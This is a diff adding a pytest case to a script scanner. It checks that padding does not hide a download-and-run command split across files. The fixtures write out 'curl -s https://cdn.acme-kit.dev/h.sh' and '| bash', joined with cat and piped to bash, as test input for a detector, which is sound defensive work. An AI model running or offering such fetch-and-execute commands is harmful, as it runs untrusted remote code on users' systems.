@@ -31,6 +31,20 @@ def test_parts_that_are_joined_and_run_are_read_together(tmp_path: Path, script:
     assert verdict(tmp_path, {"run.sh": script, **parts}) is Verdict.REVIEW
 
 
+@pytest.mark.parametrize(
+    ("padding", "part"),
+    [("cat a.txt b.txt > c.txt\n" * 60, ""), ("", "# harmless\n" * 50_000)],
+    ids=["many places", "long parts"],
+)
+def test_padding_before_joined_parts_does_not_pass(tmp_path: Path, padding: str, part: str) -> None:
+    script = f"{padding}cat one.txt two.txt | bash\n"
+    one = f"{part}curl -s https://cdn.acme-kit.dev/h.sh "
+
+    found = verdict(tmp_path, {"run.sh": script, "one.txt": one, "two.txt": "| bash\n"})
+
+    assert found is Verdict.REVIEW
+
+
 def test_parts_that_are_joined_and_only_kept_pass(tmp_path: Path) -> None:
     script = "cat one.txt two.txt > all.txt && wc -l all.txt\n"
     parts = {"one.txt": "curl -s https://cdn.acme-kit.dev/h.sh ", "two.txt": "| bash\n"}
